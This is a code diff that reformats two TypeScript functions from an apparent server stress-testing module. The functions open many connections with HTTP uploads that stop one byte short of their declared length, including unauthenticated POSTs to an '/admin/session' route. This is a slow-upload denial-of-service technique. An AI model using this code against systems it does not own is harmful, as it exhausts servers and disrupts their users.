@@ -77,12 +77,23 @@ export function deafStreams(target: Target, count: number): Promise<Attack> {
 
 /** Uploads that stop one byte before their end. */
 export function unfinishedUploads(target: Target, path: string, count: number, bytes: number): Promise<Attack> {
-  return openAll(target, count, Buffer.concat([Buffer.from(head(target, 'PUT', path, `Content-Length: ${bytes}\r\n`)), Buffer.alloc(bytes - 1, 'x')]))
+  return openAll(
+    target,
+    count,
+    Buffer.concat([
+      Buffer.from(head(target, 'PUT', path, `Content-Length: ${bytes}\r\n`)),
+      Buffer.alloc(bytes - 1, 'x'),
+    ]),
+  )
 }
 
 /** The same to an open route, without a credential. */
 export function openUploads(target: Target, count: number, bytes: number): Promise<Attack> {
   const length = `Content-Type: application/json\r\nContent-Length: ${bytes}\r\n`
   const nobody = { ...target, apiKey: undefined }
-  return openAll(nobody, count, Buffer.concat([Buffer.from(head(nobody, 'POST', '/admin/session', length)), Buffer.alloc(bytes - 1, ' ')]))
+  return openAll(
+    nobody,
+    count,
+    Buffer.concat([Buffer.from(head(nobody, 'POST', '/admin/session', length)), Buffer.alloc(bytes - 1, ' ')]),
+  )
 }
